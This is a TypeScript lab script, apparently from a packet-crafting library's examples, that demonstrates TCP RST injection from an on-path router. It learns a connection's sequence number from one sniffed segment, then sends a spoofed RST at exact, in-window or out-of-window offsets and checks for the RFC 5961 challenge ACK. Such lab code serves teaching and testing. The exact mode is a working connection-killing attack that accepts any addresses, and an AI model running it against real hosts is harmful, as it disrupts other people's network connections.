/**
 * RST injection into someone else's connection, from the router (on the path, so it can see
 * one segment and learn where the sequence numbers are).
 *   rst-inject MODE CLIENT SERVER PORT [IFACE]
 * It waits for one data segment CLIENT -> SERVER:PORT, computes the next sequence number the
 * server expects (rcv.nxt = seq + length), and sends a RST spoofed from the client with
 *   exact:   seq = rcv.nxt            -> the server drops the connection
 *   window:  seq = rcv.nxt + 1000     -> in the window but not exact: RFC 5961 says "challenge
 *                                       ACK": the server ACKs to the real client, and lives on
 *   outside: seq = rcv.nxt + 2^30     -> outside the window: silently ignored
 * Then it watches half a second for the server's challenge ACK.
 */
import { IP, TCP } from '../../packet/factories.js';
import { send, sniff } from '../../sr/index.js';
import { RawLayer } from '../../layers/raw.js';
import { TCPLayer } from '../../layers/tcp.js';
import type { Packet } from '../../packet/packet.js';
import { addrArg, arg, finish, labAddr, portArg, say, tcpFlags } from './_common.js';

const mode = arg(0, 'mode (exact, window, outside)');
const client = addrArg(1, 'client address', labAddr('client'));
const server = addrArg(2, 'server address', labAddr('server'));
const port = portArg(3, 'server port');
const iface = arg(4, 'interface', 'eth-server');
const offsets: Record<string, number> = { exact: 0, window: 1000, outside: 0x40000000 };
if (!(mode in offsets)) throw new Error(`mode must be exact, window or outside, not ${mode}`);

function payloadLength(p: Packet): number {
  const raw = p.getLayer(RawLayer);
  return raw && raw.name === 'Raw' ? raw.load.length : 0;
}

// 1. Learn the sequence numbers from one data segment of the client.
const watch = sniff({ iface, filter: `tcp and src host ${client} and dst host ${server} and dst port ${port}`, timeout: 5000 });
// The capture is running once sniff() returns: say so, so whoever starts the victim can wait for it.
say(`watching ${iface} for a data segment ${client} > ${server}.${port}`);
let seen: Packet | undefined;
for await (const p of watch) {
  if (payloadLength(p) > 0) {
    seen = p;
    watch.stop();
  }
}
if (!seen) {
  say('no data segment from the client within 5 s: is the chat client running?');
  finish({ mode, error: 'no traffic' }, 1);
} else {
  const tcp = seen.layer(TCPLayer);
  const sport = tcp.get('sport' as never) as number;
  const rcvNxt = ((tcp.get('seq' as never) as number) + payloadLength(seen)) >>> 0;
  say(`saw ${seen.summary()}`);
  say(`the server now expects seq ${rcvNxt} from ${client}.${sport}`);
  // Let the echo and its ACK go by (well under a millisecond here); then the connection is quiet until the next ping.
  await new Promise((r) => setTimeout(r, 30));

  // 2. Inject, with the capture of the server's answer already running.
  const answers = sniff({ iface, filter: `tcp and src host ${server} and dst host ${client} and src port ${port} and dst port ${sport}`, timeout: 500 });
  const seq = (rcvNxt + offsets[mode]!) >>> 0;
  const rst = IP({ src: client, dst: server }).add(TCP({ sport, dport: port, flags: 'R', seq, window: 0 }));
  await send(rst);
  say(`sent  ${rst.summary()}`);
  const after = await answers.collect();
  // A pure ACK carrying what the server expects (rcv.nxt, or a little past it should the
  // client have sent another ping meanwhile).
  const challenge = after.find(
    (p) => tcpFlags(p) === 'A' && payloadLength(p) === 0 && (((p.layer(TCPLayer).get('ack' as never) as number) - rcvNxt) >>> 0) < 1000,
  );
  for (const p of after) say(`saw   ${p.summary()}${p === challenge ? '   <- challenge ACK (RFC 5961)' : ''}`);
  if (!challenge) say('no challenge ACK from the server');
  finish({ mode, rcvNxt, seq, challengeAck: challenge !== undefined, serverSegments: after.map((p) => tcpFlags(p)) });
}
